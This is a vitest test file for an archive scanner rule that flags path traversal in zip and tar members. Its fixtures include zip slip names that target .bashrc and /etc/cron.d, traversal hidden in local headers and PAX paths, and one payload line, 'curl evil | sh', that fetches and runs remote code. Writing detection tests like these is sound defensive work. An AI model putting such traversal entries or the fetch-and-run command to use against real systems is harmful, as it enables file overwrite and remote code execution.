import { gzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { expectArchiveRule } from "../../test-support/archive-rule-cases.js";
import { buildTar } from "../../test-support/tar-builder.js";
import { buildZip } from "../../test-support/zip-builder.js";
import { arc001 } from "./arc001-member-path-traversal.js";
import { pathProblems } from "./member-path.js";

describe("ARC001 member path traversal", () => {
  it.each([
    ["../../.bashrc", "has a '..' segment"],
    ["..\\..\\Windows\\x.dll", "has a '..' segment"],
    ["/etc/cron.d/x", "is an absolute path"],
    ["C:/x", "starts with a drive letter"],
    ["a\0.pkl", "contains a NUL byte"],
    ["a/".repeat(2100), "characters long"],
  ])("classifies %j", (name, problem) => {
    expect(pathProblems(name).join(", ")).toContain(problem);
  });

  it("catches a zip slip entry", async () => {
    const { hits } = await expectArchiveRule(buildZip([{ name: "archive/../../../home/u/.bashrc", data: "curl evil | sh" }]), arc001, { present: true });
    expect(hits[0]!.location.member).toBe("archive/../../../home/u/.bashrc");
  });

  it("catches traversal hidden in the local header name only", async () => {
    await expectArchiveRule(buildZip([{ name: "archive/data.pkl", localName: "../../x.pkl", data: "x" }]), arc001, { present: true });
  });

  it("catches a traversing directory entry and an absolute tar name inside gzip", async () => {
    await expectArchiveRule(buildZip([{ name: "../up/", data: "" }]), arc001, { present: true });
    await expectArchiveRule(gzipSync(buildTar([{ name: "/tmp/evil.pkl", data: "x" }])), arc001, { present: true, path: "m.tar.gz" });
  });

  it("catches a PAX path that differs from the ustar name", async () => {
    await expectArchiveRule(buildTar([{ name: "innocent", data: "x", pax: { path: "../../evil" } }]), arc001, { present: true });
  });

  it("does not fire for dotted names that stay inside", async () => {
    await expectArchiveRule(buildZip([{ name: "archive/..data/v1..2/.hidden", data: "x" }, { name: "./archive/data.pkl", data: "y" }]), arc001, { present: false });
    await expectArchiveRule(buildTar([{ name: "model/weights..bin", data: "x" }]), arc001, { present: false });
  });
});
